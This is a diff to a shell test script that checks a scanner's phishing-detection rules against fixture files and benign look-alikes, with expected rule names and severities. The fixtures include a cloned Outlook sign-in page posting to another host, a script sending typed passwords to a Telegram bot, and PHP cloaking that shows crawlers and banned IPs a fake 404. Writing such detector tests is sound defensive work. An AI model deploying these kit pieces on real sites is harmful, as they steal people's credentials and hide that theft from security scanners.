@@ -161,6 +161,87 @@ cat >"$ok_/b7.php" <<'EOF'
 <input type="password" name="_pass"><button>Login</button></form></body></html>
 EOF
 
+# Third session: the HTML-only clone (k9: the form posts to another host;
+# k10: a script reads the password and sends it to a Telegram bot), the
+# visitor gate (k11: a list file and a crawler filter, fake 404; k12: the
+# same with the kit's form) and a one-time directory (k13); their
+# look-alikes: b9 an SSO page posting to the brand's own host, b10 a site's
+# own page with "Sign in with Google" posting to its own absolute address,
+# b11 a rate limiter reading a blocklist, b12 a GeoIP language redirect.
+cat >"$kit/page/k9.html" <<'EOF'
+<html><head><title>Outlook Web App</title></head><body>
+<form method="POST" action="https://owa-auth.example.net/owa/auth.aspx">
+<input type="email" name="username"><input type="password" name="password">
+<button>Sign in</button></form><p>&copy; 2025 Microsoft</p></body></html>
+EOF
+cat >"$kit/page/k10.html" <<'EOF'
+<html><head><title>Sign in</title></head><body>
+<form id="f"><input id="u" type="email"><input id="pw" type="password"><button>Next</button></form>
+<script>
+document.getElementById('f').onsubmit = function (e) {
+  e.preventDefault();
+  var m = 'U: ' + document.getElementById('u').value + ' P: ' + document.getElementById('pw').value;
+  fetch('https://api.telegram.org/bot123456:AAAtoken/sendMessage', {method: 'POST',
+    headers: {'Content-Type': 'application/json'}, body: JSON.stringify({chat_id: '-100123', text: m})});
+};
+</script></body></html>
+EOF
+cat >"$kit/k11.php" <<'EOF'
+<?php
+$ip = $_SERVER['REMOTE_ADDR'];
+$ua = $_SERVER['HTTP_USER_AGENT'];
+if (in_array($ip, file('data/banned.txt', FILE_IGNORE_NEW_LINES)) || preg_match('/bot|crawl|spider|curl/i', $ua)) {
+    header('HTTP/1.1 404 Not Found');
+    exit('<h1>Not Found</h1>');
+}
+include 'page/k9.html';
+EOF
+{ cat "$kit/k11.php"; printf '?>\n<form method="post" action="k1.php"><input name="loginfmt"><input type="password" name="passwd"></form>\n'; } >"$kit/k12.php"
+cat >"$kit/k13.php" <<'EOF'
+<?php
+$d = substr(md5(uniqid()), 0, 8);
+mkdir($d);
+$z = new ZipArchive();
+$z->open('pack.zip');
+$z->extractTo($d);
+echo '<meta http-equiv="refresh" content="0; url=' . $d . '/">';
+EOF
+cat >"$ok_/b9.html" <<'EOF'
+<html><head><title>Sign in to your account</title></head><body>
+<form method="post" action="https://login.microsoftonline.com/common/login">
+<input name="loginfmt"><input type="password" name="passwd"><button>Sign in</button></form>
+<p>&copy; 2025 Microsoft</p></body></html>
+EOF
+cat >"$ok_/b10.html" <<'EOF'
+<html><head><title>Log in | Acme Tools</title></head><body>
+<a href="/auth/google">Sign in with Google</a><p>Use your Google account or your Acme password.</p>
+<form method="post" action="https://www.acme-tools.example/login">
+<input name="email"><input type="password" name="password"><button>Log in</button></form></body></html>
+EOF
+cat >"$ok_/b11.php" <<'EOF'
+<?php
+$ip = $_SERVER['REMOTE_ADDR'];
+if (in_array($ip, file(__DIR__ . '/blocklist.txt', FILE_IGNORE_NEW_LINES), true)) {
+    header('HTTP/1.1 429 Too Many Requests');
+    exit;
+}
+if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) {
+    header('Cache-Control: public, max-age=600');
+}
+EOF
+cat >"$ok_/b12.php" <<'EOF'
+<?php
+$j = json_decode(@file_get_contents('http://ip-api.com/json/' . $_SERVER['REMOTE_ADDR']), true);
+$map = array('DE' => '/de/', 'FR' => '/fr/');
+if (!isset($_COOKIE['lang']) && isset($j['countryCode'], $map[$j['countryCode']])) {
+    header('Location: ' . $map[$j['countryCode']]);
+    exit;
+}
+if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) {
+    return;
+}
+EOF
+
 hs --format json --full --rules "$SRC/rules" --signatures "$SRC/signatures" scan "$t"
 check "scan: exit 1, valid JSON" sh -c "[ $RC = 1 ] && python3 -c 'import json,sys;[json.loads(l) for l in open(sys.argv[1])]' '$OUT'"
 
@@ -183,6 +264,11 @@ cases = [
     ("page/k6.html", "phishing_pages.phishing_brand_title_login_clone", "medium"),
     ("k7.php", "phishing_pages.phishing_prefilled_victim_login", "medium"),
     ("page/k8.php", "phishing_pages.phishing_brand_claim_login_clone", "medium"),
+    ("page/k9.html", "phishing_pages.phishing_html_form_posts_offsite", "high"),
+    ("page/k10.html", "phishing_pages.phishing_html_password_to_messenger", "high"),
+    ("k11.php", "phishing.phishing_visitor_gate", "medium"),
+    ("k12.php", "phishing.phishing_visitor_gate_kit", "high"),
+    ("k13.php", "phishing.phishing_onetime_directory", "medium"),
 ]
 for rel, rule, sev in cases:
     o = F.get(kit + "/" + rel)
@@ -193,7 +279,8 @@ for rel, rule, sev in cases:
         print("not ok\t%s\tseverity %s" % (name, o["severity"]))
     else:
         print("ok\t%s" % name)
-for rel in ("b1.php", "b2.php", "b3.php", "b4.php", "b5.php", "b6.php", "b7.php", "b8.php"):
+for rel in ("b1.php", "b2.php", "b3.php", "b4.php", "b5.php", "b6.php", "b7.php", "b8.php", "b9.html", "b10.html",
+            "b11.php", "b12.php"):
     o = F.get(site + "/" + rel)
     name = "look-alike %s: no finding" % rel
     print(("not ok\t%s\t%s %s" % (name, o["severity"], o["rules"])) if o else "ok\t%s" % name)
